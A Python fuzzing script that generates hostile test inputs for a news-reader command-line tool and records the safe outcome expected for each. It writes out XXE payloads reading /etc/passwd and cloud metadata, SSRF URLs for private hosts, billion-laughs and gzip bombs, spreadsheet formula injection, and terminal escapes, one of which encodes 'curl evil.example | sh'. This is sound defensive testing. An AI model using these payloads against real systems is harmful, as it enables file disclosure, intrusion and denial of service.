"""Write hostile inputs, seeded, with the outcome each one must have.

    python -m fuzz.generate --out fuzz/work --n 20000 --seed 1 [--bomb-mb 2048] [--batches 20]

Every case is one input item: a file, a folder, a glob, a stream or a list of URLs. Its
``expect_good`` lists sentences that must come out of the reader as Articles (the good
items mixed into a hostile file or folder); anything else in it only has to end as a
reported failure or a notice: never a traceback, a hang or unbounded memory. URLs are
templates filled in by the harness with the ports of servers it runs on 127.0.0.1.

Mixed batches are folders of good articles and hostile files that the harness feeds
through the real command line. The manifest (manifest.json) lists cases and batches.
"""

from __future__ import annotations

import argparse
import gzip
import json
import os
import random
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

from fuzz.goods import GoodArticle, GoodArticles, first_sentence

LONG_ARTICLE_CHARS = 990_000
NESTING_DEPTH = 5_000
DEFAULT_BOMB_MB = 2048
LOOPBACK_URL = "http://127.0.0.1:{refuse_port}"  # the server that must never be reached
SURROGATE = "\ud800"
TERMINAL_ESCAPES = (
    "\x1b[2J\x1b[H",  # clear screen, cursor home
    "\x1b[5A\x1b[2K",  # cursor up, erase line
    "\x1b]0;owned title\x07",  # OSC window title
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",  # OSC 52 clipboard write
    "\x9b31m",  # C1 CSI
)
FORMULA_PREFIXES = ("=", "+", "-", "@")
MARKUP = ("[/red]", "[/x]", "[bold red]", "[link=file:///etc]x[/link]", "[/]")
CONTROL_CHARS = "".join(chr(c) for c in (*range(1, 9), 11, 12, *range(14, 32)))


@dataclass
class Case:
    """One hostile input item and what must come out of reading it."""

    id: str
    klass: str
    inputs: list[str]
    expect_good: list[str] = field(default_factory=list)
    forbidden: list[str] = field(default_factory=list)  # text no Article may contain
    stdin_bytes: int = 0  # > 0: read this much generated text from standard input
    allow_hosts: list[str] = field(default_factory=list)
    fetch_links: bool = False
    uses_network: bool = False
    refused_server_untouched: bool = False  # the 127.0.0.1 "refuse" server sees no request
    isolate: bool = False  # memory-heavy: run in a process of its own


@dataclass
class Batch:
    """A folder of good and hostile files for the real command line."""

    name: str
    folder: str
    good_ids: list[str]
    terminal_files: list[str]  # files shown by `polex extract --format table`
    urls: list[str] = field(default_factory=list)  # written to links.urls by the harness
    good_urls: list[str] = field(default_factory=list)  # pages among them that must be stored


@dataclass
class Manifest:
    seed: int
    n: int
    cases: list[Case] = field(default_factory=list)
    batches: list[Batch] = field(default_factory=list)


class Writer:
    """Writes files under the output folder; names are relative to it."""

    def __init__(self, root: Path, seed: int, bomb_bytes: int) -> None:
        self.root = root
        self.rng = random.Random(seed)
        self.goods = GoodArticles(random.Random(seed + 1))
        self.bomb_bytes = bomb_bytes
        self._counter = 0

    def next_id(self) -> str:
        self._counter += 1
        return f"c{self._counter:06d}"

    def folder(self, relative: str) -> str:
        (self.root / relative).mkdir(parents=True, exist_ok=True)
        return relative

    def write(self, relative: str, data: bytes | str) -> str:
        path = self.root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
        return relative

    def good(self) -> GoodArticle:
        return next(self.goods)


# ---- the formats good articles are written in -------------------------------------------


def jsonl_line(article: GoodArticle, **overrides: object) -> str:
    record: dict[str, object] = {"id": article.id, "title": article.title,
                                 "published": article.published, "text": article.text,
                                 "source": "Fuzz Wire"}
    record.update(overrides)
    return json.dumps(record)


def text_file(article: GoodArticle) -> str:
    return (f"Title: {article.title}\nPublished: {article.published}\nSource: Fuzz Wire\n\n"
            f"{article.text}\n")


def html_page(article: GoodArticle, extra_body: str = "") -> str:
    return (f"<!DOCTYPE html><html><head><title>{article.title}</title>"
            f'<meta name="date" content="{article.published}"></head><body><article>'
            f"<h1>{article.title}</h1><p>{article.text}</p>{extra_body}</article></body></html>")


def rss_feed(articles: list[GoodArticle], prolog: str = "", extra_item: str = "") -> str:
    items = "".join(
        f"<item><title>{a.title}</title><guid>{a.id}</guid>"
        f"<pubDate>Mon, 03 Jun 2024 10:00:00 GMT</pubDate><description>{a.text}</description>"
        f"</item>" for a in articles
    )
    return (f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0"><channel>'
            f"<title>Fuzz Wire</title><link>http://127.0.0.1/</link>"
            f"<description>wire</description>{items}{extra_item}</channel></rss>")


def jsonl_with_goods(w: Writer, name: str, hostile_lines: list[str], n_good: int = 2
                     ) -> tuple[str, list[str]]:
    """A JSONL file with hostile lines among good ones; the good lines' sentences."""
    goods = [w.good() for _ in range(n_good)]
    lines = [jsonl_line(g) for g in goods] + hostile_lines
    w.rng.shuffle(lines)
    return w.write(name, "\n".join(lines) + "\n"), [first_sentence(g) for g in goods]


# ---- hostile classes: each writes one case ----------------------------------------------


def surrogate_field(w: Writer, case_id: str) -> Case:
    field_name = w.rng.choice(("id", "url", "title", "source", "text"))
    article = w.good()
    value = getattr(article, field_name, None) or "https://news.example.org/a"
    value = value + SURROGATE + ("\udfff" if w.rng.random() < 0.5 else "")
    path, good = jsonl_with_goods(w, f"{case_id}/surrogate.jsonl",
                                  [jsonl_line(article, **{field_name: value})])
    return Case(case_id, "surrogate_field", [path], expect_good=good)


def non_utf8_filename(w: Writer, case_id: str) -> Case:
    folder = w.folder(case_id)
    raw_name = b"report-\xff\xfe-" + str(w.rng.randint(0, 999)).encode() + b".txt"
    raw_path = os.fsencode(w.root / folder) + b"/" + raw_name
    with open(raw_path, "wb") as handle:
        handle.write(text_file(w.good()).encode())
    article = w.good()
    w.write(f"{folder}/plain.txt", text_file(article))
    return Case(case_id, "non_utf8_filename", [folder], expect_good=[first_sentence(article)])


def deep_nesting(w: Writer, case_id: str) -> Case:
    opener, closer = w.rng.choice((("[", "]"), ('{"a":', "}")))
    line = opener * NESTING_DEPTH + "1" + closer * NESTING_DEPTH
    if w.rng.random() < 0.5:  # nested inside a field of an otherwise fine record
        line = jsonl_line(w.good())[:-1] + ', "extra": ' + line + "}"
    path, good = jsonl_with_goods(w, f"{case_id}/nested.jsonl", [line])
    return Case(case_id, "deep_nesting", [path], expect_good=good)


def feed_control_char(w: Writer, case_id: str) -> Case:
    bad = w.good()
    chars = "".join(w.rng.choice(CONTROL_CHARS) for _ in range(w.rng.randint(1, 3)))
    at = w.rng.randint(0, len(bad.text))
    poisoned = GoodArticle(bad.id, bad.title, bad.text[:at] + chars + bad.text[at:],
                           bad.published)
    feed = rss_feed([w.good(), poisoned])
    return Case(case_id, "feed_control_char", [w.write(f"{case_id}/wire.xml", feed)])


def rich_markup(w: Writer, case_id: str) -> Case:
    markup = w.rng.choice(MARKUP)
    choice = w.rng.randrange(3)
    if choice == 0:
        hostile = jsonl_line(w.good(), published=markup)
        path, good = jsonl_with_goods(w, f"{case_id}/markup.jsonl", [hostile])
        return Case(case_id, "rich_markup", [path], expect_good=good)
    if choice == 1:
        hostile = jsonl_line(w.good(), url="https://news.example.org/" + markup,
                             title=markup + " headline", id="story" + markup)
        path, good = jsonl_with_goods(w, f"{case_id}/markup.jsonl", [hostile])
        return Case(case_id, "rich_markup", [path], expect_good=good)
    # A "/" in the markup splits the name into folders: the path still reads "[/x]".
    folder = w.folder(f"{case_id}/wire{markup}")
    article = w.good()
    w.write(f"{folder}/story.txt", text_file(article))
    w.write(f"{folder}/{markup}empty.txt", "")
    return Case(case_id, "rich_markup", [folder], expect_good=[first_sentence(article)])


def gz_bomb(w: Writer, case_id: str) -> Case:
    path = w.root / case_id / "bomb.jsonl.gz"
    path.parent.mkdir(parents=True, exist_ok=True)
    write_gzip_bomb(path, w.bomb_bytes)
    return Case(case_id, "gz_bomb", [f"{case_id}/bomb.jsonl.gz"], isolate=True)


def write_gzip_bomb(path: Path, size: int) -> None:
    """A gzip file of one JSONL line ``size`` bytes long, written in compressed blocks.

    The same fully flushed deflate block repeats, so the file is written without
    compressing ``size`` bytes; only the CRC runs over them.
    """
    block = b"A" * (1 << 20)
    head = b'{"id": "bomb", "text": "'
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    blocks = max(1, size // len(block))
    crc = zlib.crc32(head)
    for _ in range(blocks):
        crc = zlib.crc32(block, crc)
    tail = b'"}\n'
    crc = zlib.crc32(tail, crc)
    total = len(head) + blocks * len(block) + len(tail)
    with open(path, "wb") as handle:
        handle.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + first)
        for _ in range(blocks):
            handle.write(repeated)
        handle.write(compressor.compress(tail) + compressor.flush())
        handle.write(crc.to_bytes(4, "little") + (total & 0xFFFFFFFF).to_bytes(4, "little"))


def huge_stdin(w: Writer, case_id: str) -> Case:
    return Case(case_id, "huge_stdin", ["-"], stdin_bytes=w.bomb_bytes, isolate=True)


def long_article(w: Writer, case_id: str) -> Case:
    sentences: list[str] = []
    size = 0
    while size < LONG_ARTICLE_CHARS:
        sentence = w.good().text
        sentences.append(sentence)
        size += len(sentence) + 1
    body = " ".join(sentences)[:LONG_ARTICLE_CHARS]
    suffix = w.rng.choice((".txt", ".jsonl", ".html"))
    if suffix == ".jsonl":
        data = json.dumps({"id": "long", "published": "2024-06-01", "text": body}) + "\n"
    elif suffix == ".html":
        data = f"<html><body><article><p>{body}</p></article></body></html>"
    else:
        data = "Published: 2024-06-01\n\n" + body
    return Case(case_id, "long_article", [w.write(f"{case_id}/long{suffix}", data)],
                isolate=True)


def fifo_in_folder(w: Writer, case_id: str) -> Case:
    folder = w.folder(case_id)
    article = w.good()
    w.write(f"{folder}/story.txt", text_file(article))
    fifo = f"{folder}/pipe{w.rng.choice(('.txt', '.jsonl', '.html'))}"
    os.mkfifo(w.root / fifo)
    inputs = [folder] if w.rng.random() < 0.7 else [fifo, f"{folder}/story.txt"]
    return Case(case_id, "fifo", inputs, expect_good=[first_sentence(article)])


def symlink_loop(w: Writer, case_id: str) -> Case:
    folder = w.folder(f"{case_id}/news")
    article = w.good()
    w.write(f"{folder}/story.txt", text_file(article))
    inner = w.folder(f"{folder}/inner")
    for name in ("up", "again", "loop"):
        os.symlink("..", w.root / inner / name)
    os.symlink(".", w.root / folder / "self")
    return Case(case_id, "symlink_loop", [f"{folder}/**/*.txt"],
                expect_good=[first_sentence(article)])


def escape_sequences(w: Writer, case_id: str) -> Case:
    escape = w.rng.choice(TERMINAL_ESCAPES)
    article = w.good()
    text = article.text.replace(", ", f", {escape}", 1)
    hostile = GoodArticle(article.id, escape + article.title, text, article.published)
    path = w.write(f"{case_id}/wire{escape}{w.rng.randint(0, 99)}.txt", text_file(hostile))
    return Case(case_id, "escape_sequences", [path])


def csv_formula(w: Writer, case_id: str) -> Case:
    prefix = w.rng.choice(FORMULA_PREFIXES)
    article = w.good()
    formula = prefix + w.rng.choice(("HYPERLINK(\"http://evil.example\")", "cmd|' /C calc'!A0",
                                     "SUM(1+1)", "1+2"))
    hostile = jsonl_line(article, id=formula, title=formula,
                         text=f"{formula} {article.text}")
    path, good = jsonl_with_goods(w, f"{case_id}/formula.jsonl", [hostile])
    return Case(case_id, "csv_formula", [path], expect_good=good)


def doctype_feed(w: Writer, case_id: str) -> Case:
    goods = [w.good(), w.good()]
    prolog = '<!DOCTYPE rss [ <!ENTITY wire "Fuzz Wire"> <!ENTITY copy "&#169;"> ]>'
    # No extension: the reader must recognise the feed from its content.
    path = w.write(f"{case_id}/wire_feed", rss_feed(goods, prolog))
    return Case(case_id, "doctype_feed", [path], expect_good=[first_sentence(g) for g in goods])


def xxe_feed(w: Writer, case_id: str) -> Case:
    target = w.rng.choice(("file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
                           "file:///proc/self/environ"))
    prolog = f'<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "{target}"> ]>'
    extra = "<item><title>leak</title><description>&xxe;</description></item>"
    path = w.write(f"{case_id}/xxe.xml", rss_feed([w.good()], prolog, extra))
    return Case(case_id, "xxe_feed", [path], forbidden=["root:x:0", "ami-id", "PATH="],
                uses_network=target.startswith("http"))


def billion_laughs(w: Writer, case_id: str) -> Case:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    ]
    prolog = "<!DOCTYPE rss [" + "".join(entities) + "]>"
    extra = "<item><title>laughs</title><description>&lol9;</description></item>"
    suffix = w.rng.choice(("laughs.xml", "laughs.rss", "laughs_feed"))
    return Case(case_id, "billion_laughs",
                [w.write(f"{case_id}/{suffix}", rss_feed([w.good()], prolog, extra))],
                forbidden=["lollollollollollollollollollollol"])


def binary_junk(w: Writer, case_id: str) -> Case:
    suffix = w.rng.choice((".txt", ".html", ".jsonl", ".xml", ".warc", ".urls", ".gz",
                           ".txt.gz", ".warc.gz", ""))
    data = w.rng.randbytes(w.rng.randint(1, 20_000))
    if suffix.endswith(".gz") and w.rng.random() < 0.5:
        data = gzip.compress(data)
    return Case(case_id, "binary_junk", [w.write(f"{case_id}/junk{suffix}", data)])


def wrong_encoding(w: Writer, case_id: str) -> Case:
    article = w.good()
    text = text_file(article).replace("officials", "funcionarios de Bogotá y Piñera")
    encoding = w.rng.choice(("cp1252", "latin-1", "utf-16-le", "utf-16", "shift_jis",
                             "utf-32", "cp500", "mac-roman"))
    data = text.encode(encoding, "replace")
    if w.rng.random() < 0.3:  # valid UTF-8 up to a byte that is not
        data = text[: len(text) // 2].encode() + b"\xc3\x28\xa0\xa1" + text.encode()
    suffix = w.rng.choice((".txt", ".html", ".jsonl", ""))
    return Case(case_id, "wrong_encoding", [w.write(f"{case_id}/story{suffix}", data)])


def truncated_gzip(w: Writer, case_id: str) -> Case:
    article = w.good()
    suffix, body = w.rng.choice(((".txt.gz", text_file(article)), (".html.gz", html_page(article)),
                                 (".jsonl.gz", jsonl_line(article) + "\n"),
                                 (".xml.gz", rss_feed([article]))))
    data = gzip.compress(body.encode())
    cut = w.rng.randint(1, max(1, len(data) - 1))
    return Case(case_id, "truncated_gzip", [w.write(f"{case_id}/story{suffix}", data[:cut])])


def empty_file(w: Writer, case_id: str) -> Case:
    suffix = w.rng.choice((".txt", ".html", ".jsonl", ".xml", ".warc", ".urls", ".txt.gz", ""))
    data = w.rng.choice((b"", b" \n\t\n", b"\xef\xbb\xbf", b"\n" * 50))
    if suffix.endswith(".gz"):
        data = gzip.compress(data)
    return Case(case_id, "empty_file", [w.write(f"{case_id}/empty{suffix}", data)])


INVALID_JSON_LINES = (
    '{"id": "x", "text": "unterminated', '{"id": 1,,}', "null", "[]", '"a string"', "42",
    '{"id": "x", "text": "fine"} trailing', "{'id': 'x', 'text': 'single quotes'}",
    '{"id": "x", "text": "bad escape \\uZZZZ"}', '{"id": "x", "text": "\x01raw control"}',
    "\x00\x01\x02", "{", "}", '{"id": "x", "text": "a", "id": "dup"}', "NaN", "-Infinity",
)


def invalid_json(w: Writer, case_id: str) -> Case:
    hostile = w.rng.sample(INVALID_JSON_LINES, w.rng.randint(1, 3))
    path, good = jsonl_with_goods(w, f"{case_id}/broken.jsonl", hostile)
    return Case(case_id, "invalid_json", [path], expect_good=good)


WRONG_TYPES: tuple[dict[str, object], ...] = (
    {"id": ["a"]}, {"id": True}, {"id": 3.5}, {"id": None}, {"id": {"x": 1}}, {"text": 42},
    {"text": ["para"]}, {"text": None, "html": 7}, {"published": 20240101},
    {"published": ["2024-01-01"]}, {"published": {"y": 2024}}, {"published": True},
    {"title": {"a": 1}}, {"url": 5}, {"source": ["Reuters"]}, {"html": {"body": 1}},
)


def wrong_json_types(w: Writer, case_id: str) -> Case:
    overrides = w.rng.choice(WRONG_TYPES)
    hostile = jsonl_line(w.good(), **overrides)
    path, good = jsonl_with_goods(w, f"{case_id}/types.jsonl", [hostile])
    return Case(case_id, "wrong_json_types", [path], expect_good=good)


BAD_DATES: tuple[object, ...] = (
    "99999-12-31", "-0001-01-01", "NaN", "nan", "Infinity", 1e308, -1e308, 10**30, -(10**30),
    "0000-00-00", "2024-02-30", "2024-13-45", "9999-12-31T23:59:59+99:99", "1e400",
    "2024-06-01T25:61:61Z", "yesterday", "", " ", "\x00", "0", "-1", "275760-09-13",
)


def bad_dates(w: Writer, case_id: str) -> Case:
    value = w.rng.choice(BAD_DATES)
    hostile = jsonl_line(w.good(), published=value)
    if w.rng.random() < 0.3:
        hostile = hostile.replace(json.dumps(value), w.rng.choice(("NaN", "Infinity", "1e999")))
    path, good = jsonl_with_goods(w, f"{case_id}/dates.jsonl", [hostile])
    return Case(case_id, "bad_dates", [path], expect_good=good)


NO_BODY_PAGES = (
    "<html><head><title>Only a head</title></head></html>",
    "<!DOCTYPE html>", "<html><body>   </body></html>",
    "<html><frameset><frame src='a.html'></frameset></html>",
    "<html><body><script>var a = 1;</script><style>p{}</style></body></html>",
    "<svg xmlns='http://www.w3.org/2000/svg'><text>hi</text></svg>",
    "<html><body>" + "<div>" * 3000 + "deep" + "</div>" * 3000 + "</body></html>",
    "<" * 5000, "<html><body><p>" + "&amp;" * 20000 + "</p></body></html>",
)


def html_no_body(w: Writer, case_id: str) -> Case:
    page = w.rng.choice(NO_BODY_PAGES)
    suffix = w.rng.choice((".html", ".htm", ".html.gz"))
    data = gzip.compress(page.encode()) if suffix.endswith(".gz") else page.encode()
    return Case(case_id, "html_no_body", [w.write(f"{case_id}/page{suffix}", data)])


def good_control(w: Writer, case_id: str) -> Case:
    article = w.good()
    kind = w.rng.choice(("txt", "jsonl", "html", "xml"))
    if kind == "txt":
        path = w.write(f"{case_id}/{article.id}.txt", text_file(article))
    elif kind == "jsonl":
        path = w.write(f"{case_id}/{article.id}.jsonl", jsonl_line(article) + "\n")
    elif kind == "html":
        path = w.write(f"{case_id}/{article.id}.html", html_page(article))
    else:
        path = w.write(f"{case_id}/{article.id}.xml", rss_feed([article]))
    return Case(case_id, "good_control", [path], expect_good=[first_sentence(article)])


# ---- network classes: URL templates filled in by the harness ----------------------------

PRIVATE_URLS = (
    "http://169.254.169.254/latest/meta-data/", "http://10.{a}.{b}.{c}/", "http://10.0.0.1:8080/",
    "http://127.0.0.2:{refuse_port}/", "http://[::1]:{refuse_port}/",
    "http://localhost:{refuse_port}/", "http://LOCALHOST:{refuse_port}/news",
    "http://0.0.0.0:{refuse_port}/", "http://[::ffff:127.0.0.1]:{refuse_port}/",
    "http://2130706433:{refuse_port}/", "http://0x7f000001:{refuse_port}/",
    "http://[fd00:ec2::254]/latest/", "http://192.168.{a}.{b}/", "http://172.16.{a}.{b}/",
    "http://224.0.0.1/", "file:///etc/passwd", "ftp://127.0.0.1:{refuse_port}/",
    "gopher://127.0.0.1:{refuse_port}/_", "http://user:pw@localhost:{refuse_port}/",
)
REDIRECT_TARGETS = (
    "http://localhost:{refuse_port}/x", "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/", "file:///etc/passwd", "http://127.0.0.2:{refuse_port}/",
    "http://[::1]:{refuse_port}/",
)


def ssrf_url(w: Writer, case_id: str) -> Case:
    template = w.rng.choice(PRIVATE_URLS)
    url = template.replace("{a}", str(w.rng.randint(0, 255))).replace(
        "{b}", str(w.rng.randint(0, 255))).replace("{c}", str(w.rng.randint(1, 254)))
    good = w.good()
    inputs = ["{http}/pages/" + good.id + ".html", url]
    w.write(f"www/pages/{good.id}.html", html_page(good))
    return Case(case_id, "ssrf_url", inputs, expect_good=[first_sentence(good)],
                allow_hosts=["127.0.0.1"], uses_network=True, refused_server_untouched=True)


def ssrf_loopback_not_allowed(w: Writer, case_id: str) -> Case:
    return Case(case_id, "ssrf_url", [LOOPBACK_URL + "/news/" + str(w.rng.randint(0, 999))],
                uses_network=True, refused_server_untouched=True)


def ssrf_redirect(w: Writer, case_id: str) -> Case:
    target = w.rng.choice(REDIRECT_TARGETS)
    return Case(case_id, "ssrf_redirect", ["{http}/redirect?to=" + target],
                allow_hosts=["127.0.0.1"], uses_network=True, refused_server_untouched=True)


def ssrf_feed_links(w: Writer, case_id: str) -> Case:
    links = "".join(
        f"<item><title>t{i}</title><link>{target}</link><description>d</description></item>"
        for i, target in enumerate(w.rng.sample(REDIRECT_TARGETS, 3))
    )
    w.write(f"www/feeds/{case_id}.xml", rss_feed([], "", links))
    return Case(case_id, "ssrf_feed_links", ["{http}/feeds/" + case_id + ".xml"],
                allow_hosts=["127.0.0.1"], fetch_links=True, uses_network=True,
                refused_server_untouched=True)


def trickle_server(w: Writer, case_id: str) -> Case:
    which = w.rng.choice(("{trickle_headers}", "{trickle_body}"))
    return Case(case_id, "trickle_server", [which + "/slow/" + case_id],
                allow_hosts=["127.0.0.1"], uses_network=True)


def fetched_doctype_feed(w: Writer, case_id: str) -> Case:
    goods = [w.good(), w.good()]
    prolog = '<!DOCTYPE rss [ <!ENTITY wire "Fuzz Wire"> ]>'
    w.write(f"www/feeds/{case_id}.xml", rss_feed(goods, prolog))
    return Case(case_id, "doctype_feed", ["{http}/feeds/" + case_id + ".xml"],
                expect_good=[first_sentence(g) for g in goods], allow_hosts=["127.0.0.1"],
                uses_network=True)


CLASSES = (
    "surrogate_field", "non_utf8_filename", "deep_nesting", "feed_control_char", "rich_markup",
    "gz_bomb", "huge_stdin", "long_article", "fifo", "symlink_loop", "escape_sequences",
    "csv_formula", "doctype_feed", "xxe_feed", "billion_laughs", "binary_junk", "wrong_encoding",
    "truncated_gzip", "empty_file", "invalid_json", "wrong_json_types", "bad_dates",
    "html_no_body", "good_control", "ssrf_url", "ssrf_redirect", "ssrf_feed_links",
    "trickle_server",
)
Generator = Callable[[Writer, str], Case]
# Classes made in proportion to the number of inputs asked for, by weight.
WEIGHTED: tuple[tuple[Generator, int], ...] = (
    (surrogate_field, 8), (non_utf8_filename, 4), (deep_nesting, 5), (feed_control_char, 6),
    (rich_markup, 6), (fifo_in_folder, 3), (symlink_loop, 2), (escape_sequences, 5),
    (csv_formula, 5), (doctype_feed, 4), (xxe_feed, 3), (billion_laughs, 2),
    (binary_junk, 8), (wrong_encoding, 6), (truncated_gzip, 6), (empty_file, 5),
    (invalid_json, 8), (wrong_json_types, 8), (bad_dates, 8), (html_no_body, 5),
    (good_control, 3), (ssrf_url, 3), (ssrf_loopback_not_allowed, 1), (ssrf_redirect, 2),
    (ssrf_feed_links, 1), (fetched_doctype_feed, 1),
)
# Costly classes: a fixed number of cases, whatever the total.
FIXED: tuple[tuple[Generator, int], ...] = (
    (gz_bomb, 1), (huge_stdin, 1), (long_article, 2), (trickle_server, 2),
)


def generate(root: Path, n: int, seed: int, bomb_bytes: int = DEFAULT_BOMB_MB << 20,
             batches: int = 2, batch_goods: int = 6) -> Manifest:
    """Write ``n`` cases (and ``batches`` mixed batches) under ``root``; return the manifest."""
    root.mkdir(parents=True, exist_ok=True)
    writer = Writer(root, seed, bomb_bytes)
    manifest = Manifest(seed=seed, n=n)
    plan = [make for make, count in FIXED for _ in range(count)]
    generators = [make for make, _ in WEIGHTED]
    weights = [weight for _, weight in WEIGHTED]
    plan += writer.rng.choices(generators, weights, k=max(0, n - len(plan)))
    for make in plan:
        manifest.cases.append(make(writer, writer.next_id()))
    for number in range(batches):
        manifest.batches.append(mixed_batch(writer, number, batch_goods))
    (root / "manifest.json").write_text(json.dumps(asdict(manifest), indent=1))
    return manifest


def load_manifest(root: Path) -> Manifest:
    raw = json.loads((root / "manifest.json").read_text())
    return Manifest(seed=raw["seed"], n=raw["n"], cases=[Case(**c) for c in raw["cases"]],
                    batches=[Batch(**b) for b in raw["batches"]])


# ---- mixed batches for the command line -------------------------------------------------

# Hostile files every batch holds: the ones the command line shows, stores or exports.
# Even batches also hold the inputs that used to hang (a FIFO, a symlink loop under a glob).


def mixed_batch(w: Writer, number: int, n_goods: int) -> Batch:
    name = f"batch_{number:03d}"
    folder = w.folder(f"batches/{name}")
    good_ids = write_goods(w, folder, n_goods)
    w.write(f"{folder}/hostile.jsonl", "\n".join(batch_hostile_lines(w)) + "\n")
    markup_folder = w.folder(f"{folder}/[bold]wire[/x]")
    article = w.good()
    w.write(f"{markup_folder}/{article.id}.txt", text_file(article))
    good_ids.append(article.id)
    w.write(f"{markup_folder}/[/red].txt", "")
    terminal = batch_terminal_files(w, folder)
    batch_file_hostiles(w, folder, hangs=number % 2 == 1)
    page = "{http}/pages/" + page_for(w) + ".html"
    return Batch(name, folder, good_ids, terminal, [page, "{http}/missing.html"], [page])


def write_goods(w: Writer, folder: str, n_goods: int) -> list[str]:
    ids: list[str] = []
    lines: list[str] = []
    for index in range(n_goods):
        article = w.good()
        ids.append(article.id)
        form = index % 3
        if form == 0:
            w.write(f"{folder}/{article.id}.txt", text_file(article))
        elif form == 1:
            w.write(f"{folder}/{article.id}.html", html_page(article))
        else:
            lines.append(jsonl_line(article))
    w.write(f"{folder}/goods.jsonl", "\n".join(lines) + "\n")
    return ids


def page_for(w: Writer) -> str:
    article = w.good()
    w.write(f"www/pages/{article.id}.html", html_page(article))
    return article.id


def batch_hostile_lines(w: Writer) -> list[str]:
    """JSONL lines that are hostile to the store, the terminal and spreadsheets."""
    base = [w.good() for _ in range(6)]
    nested = "[" * NESTING_DEPTH + "]" * NESTING_DEPTH
    return [
        jsonl_line(base[0], title="Talks" + SURROGATE, source="Wire" + SURROGATE),
        jsonl_line(base[1], text=base[1].text.replace(" ", " " + SURROGATE + " ", 1)),
        jsonl_line(base[2], published="[/red]"),
        jsonl_line(base[3], id="=HYPERLINK(\"http://evil.example\")",
                   text="=cmd|' /C calc'!A0 " + base[3].text),
        jsonl_line(base[4], id="+SUM(1+1)", title="@SUM(A1)",
                   text="-2+3 " + base[4].text + " " + TERMINAL_ESCAPES[0]),
        jsonl_line(base[5], title=TERMINAL_ESCAPES[2],
                   text=base[5].text.replace(", ", ", " + TERMINAL_ESCAPES[3], 1)),
        nested, '{"id": ["x"], "text": 5}', '{"id": "broken", "text": "unterminated',
    ]


def batch_terminal_files(w: Writer, folder: str) -> list[str]:
    """Files whose text and names carry terminal escapes, for `extract --format table`."""
    names: list[str] = []
    for escape in TERMINAL_ESCAPES[:4]:
        article = w.good()
        text = article.text.replace(", ", f", {escape}", 1)
        hostile = GoodArticle(article.id, article.title, text, article.published)
        names.append(w.write(f"{folder}/term/{article.id}.txt", text_file(hostile)))
    names.append(w.write(f"{folder}/term/clear\x1b[2Jscreen\x1b]0;t\x07.txt", ""))
    return names


def batch_file_hostiles(w: Writer, folder: str, hangs: bool) -> None:
    w.write(f"{folder}/junk.html", w.rng.randbytes(4000))
    w.write(f"{folder}/cut.txt.gz", gzip.compress(text_file(w.good()).encode())[:40])
    w.write(f"{folder}/feed.xml", rss_feed([w.good()]).replace("officials", "offi\x0bcials"))
    w.write(f"{folder}/doctype_feed.xml",
            rss_feed([w.good()], '<!DOCTYPE rss [ <!ENTITY w "Wire"> ]>'))
    w.write(f"{folder}/xxe.xml", rss_feed([w.good()], '<!DOCTYPE rss [ <!ENTITY x SYSTEM '
                                          '"file:///etc/passwd"> ]>',
                                          "<item><title>x</title><description>&x;"
                                          "</description></item>"))
    w.write(f"{folder}/empty.html", "")
    w.write(f"{folder}/nobody.html", NO_BODY_PAGES[0])
    raw = os.fsencode(w.root / folder) + b"/latin-\xe9t\xe9.txt"
    with open(raw, "wb") as handle:
        handle.write(text_file(w.good()).encode())
    if hangs:
        os.mkfifo(w.root / folder / "pipe.txt")
        loop = w.folder(f"{folder}/loop")
        os.symlink("..", w.root / loop / "parent")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, required=True)
    parser.add_argument("--n", type=int, default=2000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--bomb-mb", type=int, default=DEFAULT_BOMB_MB)
    parser.add_argument("--batches", type=int, default=2)
    args = parser.parse_args()
    manifest = generate(args.out, args.n, args.seed, args.bomb_mb << 20, args.batches)
    print(f"{len(manifest.cases)} cases and {len(manifest.batches)} batches in {args.out}")


if __name__ == "__main__":
    main()
